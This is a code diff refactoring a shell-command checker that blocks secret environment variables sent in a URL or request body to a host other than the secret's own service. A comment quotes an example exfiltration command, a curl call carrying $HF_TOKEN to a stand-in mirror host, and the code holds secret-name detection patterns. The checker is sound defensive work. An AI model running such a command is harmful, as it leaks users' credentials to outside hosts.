@@ -5,6 +5,7 @@ import re
 import shlex
 
 from .. import paths
+from ..secret_owner import owner, secret_name
 from .commands import SHELLS, Cmd, option_value, positionals, resolve
 from .files import written_file
 from .common import NET_SENDERS, inline_code, ssh_positionals
@@ -661,62 +662,12 @@ def dump_file(a, cmd: Cmd) -> None:
 # -- a secret variable in a request's URL or body, to a host that is not the secret's own service -----------------
 # `curl "https://hf-mirror.example.com/auth?token=$HF_TOKEN"`: the token itself leaves for that host. A secret is
 # sent to its own service in a header (`-H "Authorization: Bearer $HF_TOKEN"`, left alone, as -u is); in a URL or a
-# body it is held to its service's hosts: known ones by name (below), others by a word of the variable's name in the
+# body it is held to its service's hosts: known ones by name (secret_owner.py), others by a word of the variable's name in the
 # host (`$WEATHER_API_KEY` to api.weather.example). A name that says no service (`$API_KEY`, `$CLIENT_SECRET`), a
 # host known only at run time (`$API_URL/…`) and this machine are left alone.
-_SECRET_NAME = re.compile(r"(?:^|_)(?:TOKEN|SECRET|PASSWORD|PASSWD|PASS|API_?KEY|ACCESS_KEY|PRIVATE_KEY|AUTH_KEY|"
-                          r"CREDENTIALS?|PAT)(?:_|$)")
-# names that say where a secret is or what it is called, not the secret (`GITHUB_TOKEN_PATH`, `AWS_ACCESS_KEY_ID`)
-_NOT_SECRET = re.compile(r"_(?:URL|URI|ENDPOINT|FILE|PATH|HOST|NAME|ID|TYPE|TTL|EXPIRY|EXPIRES|EXPIRES_AT|HEADER|"
-                         r"LENGTH|KIND|DIR|SCOPE|SCOPES|USER|USERNAME)$")
-# the words of a variable's name that are no service's (`SLACK_BOT_TOKEN` is Slack's)
-_GENERIC = frozenset({"token", "secret", "password", "passwd", "pass", "api", "key", "access", "private", "auth",
-                      "credential", "credentials", "pat", "client", "app", "bot", "user", "service", "account",
-                      "personal", "oauth", "refresh", "session", "read", "write", "deploy", "job", "ci", "admin",
-                      "master", "root", "db", "prod", "dev", "test", "staging", "my", "the", "default", "id", "bearer",
-                      "webhook", "signing", "encryption", "jwt", "hmac", "x"})
-# a service's own hosts (the host or a subdomain of it), by the name's first word; package registries' tokens
-# (`NPM_TOKEN`, `PYPI_TOKEN`, `TWINE_PASSWORD`, `CARGO_REGISTRY_TOKEN`) go only in their tools' settings or a
-# header, never in a URL or body: no host is theirs here. (Services often run on the user's own hosts, GitLab,
-# Sentry, Jenkins, are read by the word: `$GITLAB_TOKEN` to gitlab.example.com.)
-_OWN_HOSTS_OF = {
-    "hf": ("huggingface.co", "hf.co"), "huggingface": ("huggingface.co", "hf.co"), "hugging": ("huggingface.co", "hf.co"),
-    "github": ("github.com", "githubusercontent.com"), "gh": ("github.com", "githubusercontent.com"),
-    "wandb": ("wandb.ai",), "openai": ("openai.com",), "anthropic": ("anthropic.com",),
-    "aws": ("amazonaws.com",), "slack": ("slack.com",), "stripe": ("stripe.com",),
-    "datadog": ("datadoghq.com", "datadoghq.eu"), "dd": ("datadoghq.com", "datadoghq.eu"),
-    "google": ("googleapis.com", "google.com"), "gcp": ("googleapis.com",), "gemini": ("googleapis.com",),
-    "cloudflare": ("cloudflare.com",), "cf": ("cloudflare.com",), "docker": ("docker.com", "docker.io"),
-    "dockerhub": ("docker.com", "docker.io"), "vercel": ("vercel.com",), "netlify": ("netlify.com",),
-    "heroku": ("heroku.com",), "sendgrid": ("sendgrid.com",), "twilio": ("twilio.com",), "telegram": ("telegram.org",),
-    "discord": ("discord.com",), "notion": ("notion.com", "notion.so"), "linear": ("linear.app",),
-    "codecov": ("codecov.io",), "circleci": ("circleci.com",), "replicate": ("replicate.com",),
-    "mistral": ("mistral.ai",), "groq": ("groq.com",), "cohere": ("cohere.com", "cohere.ai"),
-    "pinecone": ("pinecone.io",), "digitalocean": ("digitalocean.com",), "do": ("digitalocean.com",),
-    "npm": (), "pypi": (), "twine": (), "cargo": (), "nuget": (), "rubygems": (), "gem": (),
-}
-
-
 def _secret_var(name: str) -> bool:
-    return bool(_SECRET_NAME.search(name)) and not _NOT_SECRET.search(name) and name.isupper()
-
-
-def _secret_owner(name: str) -> tuple[str, tuple[str, ...], bool] | None:
-    """(the service the secret variable `name` belongs to, its hosts or the words a host of it has, whether those
-    are hosts); None when the name says no service."""
-    words = [w for w in name.lower().split("_") if w]
-    own = _OWN_HOSTS_OF.get(words[0]) if words else None
-    if own is not None:
-        return words[0], own, True
-    service = tuple(w for w in words if w not in _GENERIC and not w.isdigit() and len(w) > 1)
-    return (service[0], service, False) if service else None
-
-
-def _owned(host: str, own: tuple[str, ...], hosts: bool) -> bool:
-    if hosts:
-        return any(host == h or host.endswith("." + h) for h in own)
-    labels = {p for label in host.split(".")[:-1] for p in label.split("-")}
-    return any(w in labels for w in own)
+    # upper case only: a shell's local `$token` is as often a word as a secret
+    return name.isupper() and secret_name(name)
 
 
 _REF = re.compile(r"\$\{?(!?)([A-Za-z_]\w*)")
@@ -801,16 +752,11 @@ def _secret_in_request(a, cmd: Cmd) -> None:
         fed = herestrings(a, cmd) if cmd.redirects and any((b.value or "") in ("@-", "-") for b in r.bodies) else []
         for w in urls + list(r.bodies) + fed:  # (`-d @- <<< "t=$HF_TOKEN"`: the body read on stdin)
             for name in dict.fromkeys(_secrets_in(a, w.text, w.node)):
-                owner = _secret_owner(name)
-                if owner is None:
-                    continue
-                service, own, exact = owner
+                own = owner(name)
                 host = (remote(w) if w in urls else None) or hosts[0]
-                if host != "?" and not _owned(host, own, exact):
+                if own is not None and host != "?" and not own.owns(host):
                     where = "URL" if w in urls else "body"
-                    whose = f"{own[0]}, the service ${name} is for" if exact and own else \
-                        f"the {service} registry, whose token goes only in its tool's settings" if exact else \
-                        f"a host of {service}, the service ${name} is named for"
+                    whose = own.described("$" + name)
                     a.block("exfiltration", f"`{cmd.name}` puts ${name} in the {where} of a request to {host}, which is "
                                             f"not {whose}: the secret itself goes to that host; send a token only to "
                                             "its own service, in an Authorization header", w.node)
